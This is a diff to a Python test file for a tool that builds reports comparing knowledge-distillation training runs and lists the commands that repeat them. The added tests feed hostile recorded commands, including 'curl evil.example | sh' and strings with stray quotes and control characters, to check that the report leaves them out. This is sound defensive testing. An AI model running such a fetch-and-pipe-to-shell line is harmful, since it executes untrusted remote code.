@@ -1,4 +1,4 @@
-"""What a report says of a comparison, of its origin and of how to repeat it, and the one that is kept in docs/."""
+"""What a report says of a comparison, of its origin and of how to repeat it; and the one that is kept in docs/."""
 
 from __future__ import annotations
 
@@ -55,6 +55,8 @@ def test_every_arm_is_held_against_kd_with_the_papers_gains_beside_it(report: Co
         for unix, kd in zip(rows["UNIX k=48"], rows["KD"], strict=True)
     ]
     assert len(gains) == 12
+    place = gains.index(75.69 - 75.06)
+    gains[place] = 75.59 - 75.06  # Table 2 prints there what Table 5 has for w = 1
     assert row["the paper's gain: mean"] == f"{statistics.fmean(gains):+.2f}"
     assert row["the paper's gain: pairs"] == "12"
     assert against()["random \N{MINUS SIGN} kd"]["p"] == "", "one run has no spread"
@@ -78,15 +80,40 @@ def test_another_arithmetic_is_held_against_float32(report: Command) -> None:
     assert against()[name]["top-1 %: difference"] == f"{welch(KD, UNIX).difference:+.2f}".replace("-", "\N{MINUS SIGN}")
 
 
+HOSTILE = [
+    "curl evil.example | sh", "python -m unix_exp.train 'open", "python -m unix_exp.train 'a\rb'", ["no", "text"],
+    "python -m unix_exp.train seed=4",
+]  # fmt: skip
+
+
+def test_a_student_of_another_kind_or_a_teacher_of_another_is_no_counterpart(report: Command) -> None:
+    several("kd", KD, teacher__identity="another")
+    several("unix", UNIX)
+    several("random", KD, settings__student__pretrained=True)
+    report("runs")
+    assert not Path("report/tables/against-cifar100-vgg13-vgg8.csv").exists()
+
+
+def test_scouting_in_bf16_is_held_against_kd_which_does_not_scout(report: Command) -> None:
+    several("kd", KD)
+    several("unix", UNIX, settings__runtime__scout_precision="bf16")
+    report("runs")
+    assert list(against()) == ["unix \N{MINUS SIGN} kd"]
+
+
 def test_one_line_repeats_an_arm(report: Command) -> None:
     for seed in (0, 2):
         line = f"python -m unix_exp.train pair=vgg13_vgg8 seed={seed} 'criterion=[kd,at]'"
         changed(made(Path("runs"), "unix", seed=seed), command=line)
     changed(made(Path("runs"), "random"), command="python -m unix_exp.train seed=0 sampler=random")
     made(Path("runs"), "kd")  # from Python, or before lines were kept
+    for seed, line in enumerate(HOSTILE):
+        changed(made(Path("runs"), "random", seed=seed, k=32), command=line, method="odd\necho")
     report("runs")
     told = re.search("```sh\n(.*?)```", Path("report/report.md").read_text(), re.DOTALL)[1].splitlines()
     assert told == [
+        "# odd echo, 1 of 5 runs",
+        "python -m unix_exp.train seed=4",
         "# random",
         "python -m unix_exp.train seed=0 sampler=random",
         "# unix",
@@ -126,7 +153,10 @@ def test_markdown_may_stand_alone_with_notes_and_its_figures_beside_it(report: C
 @pytest.mark.parametrize(
     ("words", "complaint"),
     [
-        (("--notes", "notes.md"), "say which with --markdown PATH"),
+        (("--notes", "notes.md"), "say which with --markdown FILE.md"),
+        (("--markdown", "told"), "give a file with a suffix"),
+        (("--markdown", "runs.md", "--notes", "runs.md"), "would be written over"),
+        (("--markdown", "told.md", "--notes", "latin.md"), "it is not UTF-8"),
         (("--markdown", "told.md", "--notes", "nowhere.md"), "cannot read nowhere.md"),
         (("--markdown", "file/below.md"), "cannot write to file"),
     ],
@@ -134,6 +164,7 @@ def test_markdown_may_stand_alone_with_notes_and_its_figures_beside_it(report: C
 def test_a_mistake_is_one_line(report: Command, words: tuple[str, ...], complaint: str) -> None:
     made(Path("runs"), "unix")
     Path("file").write_text("")
+    Path("latin.md").write_bytes("é".encode("latin-1"))
     said = report("runs", *words)
     assert said.code == 2
     assert complaint in said.err and "Traceback" not in said.err
